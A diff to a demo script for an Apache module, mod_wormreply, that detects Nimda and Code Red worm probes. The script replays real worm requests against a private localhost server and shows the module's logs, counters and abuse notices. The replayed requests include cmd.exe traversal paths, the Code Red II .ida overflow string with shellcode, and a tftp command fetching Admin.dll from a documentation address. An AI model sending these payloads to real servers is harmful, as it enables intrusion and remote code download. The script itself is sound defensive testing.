@@ -2,10 +2,13 @@
 # demo.sh - the module at work on a private httpd on 127.0.0.1
 #
 # Starts its own httpd (own ServerRoot under $DEMO_DIR, never the system's
-# service) with mod_wormreply switched on for one virtual host, sends real
-# Nimda and Code Red probes exactly as the worms sent them plus ordinary
-# requests, shows the answers, the log lines and the counters, runs the CLI
-# over the access log, then stops the server. Run after "make -f apxs.mk".
+# service) with mod_wormreply switched on for one virtual host, and the test
+# suite's private DNS server (unbound on 127.0.0.1:15363, serving documentation
+# zones), sends real Nimda and Code Red probes exactly as the worms sent them
+# plus ordinary requests, shows the answers, the log lines, the counters and
+# the notices the notifier wrote to the outbox for the probers' networks,
+# prints the CLI's report, then stops everything. No external server is
+# needed. Run after "make -f apxs.mk".
 set -eu
 cd "$(dirname "$0")/.."
 top=$(pwd)
@@ -20,7 +23,10 @@ case "$DEMO_DIR" in /tmp/?*) ;; *) echo "demo: DEMO_DIR must be under /tmp" >&2;
 
 say() { printf '\n\033[1m== %s\033[0m\n' "$*"; }
 
+DNS_RIG=$DEMO_DIR/rig
+DNS_PORT=${DEMO_DNS_PORT:-15363}
 stop() {
+    WR_RIG_DIR=$DNS_RIG WR_DNS_PORT=$DNS_PORT sh "$top/t/rig/dns.sh" stop >/dev/null 2>&1 || true
     if [ -f "$DEMO_DIR/run/httpd.pid" ]; then
         "$HTTPD" -d "$DEMO_DIR" -f "$DEMO_DIR/httpd.conf" -k stop 2>/dev/null || true
         i=0
@@ -50,10 +56,13 @@ LoadModule authz_host_module $MODDIR/mod_authz_host.so
 LoadModule mime_module $MODDIR/mod_mime.so
 LoadModule dir_module $MODDIR/mod_dir.so
 LoadModule status_module $MODDIR/mod_status.so
+LoadModule remoteip_module $MODDIR/mod_remoteip.so
+LoadModule socache_shmcb_module $MODDIR/mod_socache_shmcb.so
 LoadModule wormreply_module $SO
 StartServers 1
 ServerLimit 2
 ThreadsPerChild 8
+MaxRequestWorkers 16
 ErrorLog "$DEMO_DIR/logs/error.log"
 LogLevel warn wormreply:info
 LogFormat "%h %t \"%r\" %>s %B probe=%{WORM_PROBE}e" worm
@@ -65,10 +74,21 @@ DirectoryIndex index.html
 <Directory "$DEMO_DIR/htdocs">
     Require all granted
 </Directory>
+# The demo's probers are documentation addresses (RFC 5737, RFC 3849),
+# presented through mod_remoteip; the notices go to the outbox directory.
+RemoteIPHeader X-Forwarded-For
+RemoteIPInternalProxy 127.0.0.1
+WormReplySpool $DEMO_DIR/spool
+WormReplyOutbox $DEMO_DIR/outbox
+WormReplyResolver 127.0.0.1:$DNS_PORT
+WormReplyNotifyAllow 192.0.2.0/24 2001:db8::/32
+WormReplyDigestDelay 2s
+WormReplyFrom webmaster@demo.localhost
 <VirtualHost 127.0.0.1:$PORT>
     ServerName demo.localhost
     WormReply On
     WormReplyAction 404
+    WormReplyNotify On
     <Location /server-status>
         SetHandler server-status
         Require ip 127.0.0.1
@@ -82,6 +102,8 @@ EOF
 
 say "configtest"
 "$HTTPD" -d "$DEMO_DIR" -f "$DEMO_DIR/httpd.conf" -t
+say "start the private DNS server (unbound, documentation zones) on 127.0.0.1:$DNS_PORT"
+WR_RIG_DIR=$DNS_RIG WR_DNS_PORT=$DNS_PORT sh "$top/t/rig/dns.sh" start
 say "start httpd on 127.0.0.1:$PORT"
 "$HTTPD" -d "$DEMO_DIR" -f "$DEMO_DIR/httpd.conf" -k start
 trap stop EXIT INT TERM
@@ -91,9 +113,12 @@ until curl -s -o /dev/null "http://127.0.0.1:$PORT/"; do
     sleep 0.05
 done
 
-# raw - send one request exactly as given, print the status line and body
+# raw - send one request exactly as given, print the status line and body;
+# $SRC, when set, is the prober's address (X-Forwarded-For)
 raw() {
-    printf '%s\r\nHost: www\r\nConnnection: close\r\n\r\n' "$1" \
+    printf '%s\r\nHost: www\r\nConnnection: close\r\n%s\r\n' "$1" \
+        "${SRC:+X-Forwarded-For: $SRC$(printf '\r')
+}" \
         | timeout 5 perl -MIO::Socket::INET -e '
             my $s = IO::Socket::INET->new(PeerAddr => "127.0.0.1:'"$PORT"'",
                                           Timeout => 5) or die "connect: $!";
@@ -104,7 +129,8 @@ raw() {
             printf "  %-45s %s\n", $st // "(no answer)", substr($body, 0, 40);'
 }
 
-say "the 16 requests of a Nimda scan, as the worm sent them"
+say "the 16 requests of a Nimda scan, as the worm sent them, from 192.0.2.10"
+SRC=192.0.2.10
 while IFS= read -r u; do
     printf '%s\n' "$u"; raw "GET $u HTTP/1.0"
 done <<'EOF'
@@ -126,12 +152,14 @@ done <<'EOF'
 /scripts/..%252f../winnt/system32/cmd.exe?/c+dir
 EOF
 
-say "Code Red II"
+say "Code Red II, from 2001:db8::10 and from 192.0.2.30"
 CODERED="/default.ida?$(printf '%224s' '' | tr ' ' X)%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a"
 echo "/default.ida?XXXX...(224 X)...%u9090%u6858..."
-raw "GET $CODERED HTTP/1.0"
+SRC=2001:db8::10 raw "GET $CODERED HTTP/1.0"
+SRC=192.0.2.30 raw "GET $CODERED HTTP/1.0"
 
 say "Nimda's tftp follow-up (httpd itself rejects this request line)"
+SRC=
 raw 'GET /scripts/root.exe?/c+tftp -i 192.0.2.7 GET Admin.dll c:\Admin.dll HTTP/1.0'
 
 say "ordinary requests are untouched"
@@ -152,6 +180,21 @@ curl -s "http://127.0.0.1:$PORT/wormreply-status"
 curl -s "http://127.0.0.1:$PORT/wormreply-status?format=prometheus" | grep -v '^#' | head -8
 say "the CLI classifies the same access log with the same matcher"
 "$top/tools/wormreply" match --only-probes "$DEMO_DIR/logs/access.log" | cut -c1-110
+
+say "notices: the notifier resolved the probers (confirmed reverse DNS) and wrote one digest per domain"
+i=0
+until [ "$(ls "$DEMO_DIR/outbox" 2>/dev/null | grep -c '\.eml$')" -ge 2 ] || [ $i -ge 100 ]; do
+    sleep 0.1; i=$((i + 1))
+done
+grep -a 'WR0004[2-7]\|WR00050' "$DEMO_DIR/logs/error.log" | sed 's/^\[[^]]*\] //' | cut -c1-160
+for f in "$DEMO_DIR"/outbox/*.eml; do
+    [ -f "$f" ] || continue
+    printf '\n--- %s\n' "$f"
+    tr -d '\r' < "$f"
+done
+
+say "the probe load of the real sample access log (wormreply report, t/data/)"
+"$top/tools/wormreply" report "$top/t/data/access-sample.log.gz" | head -32
 
 say "stop httpd"
 stop
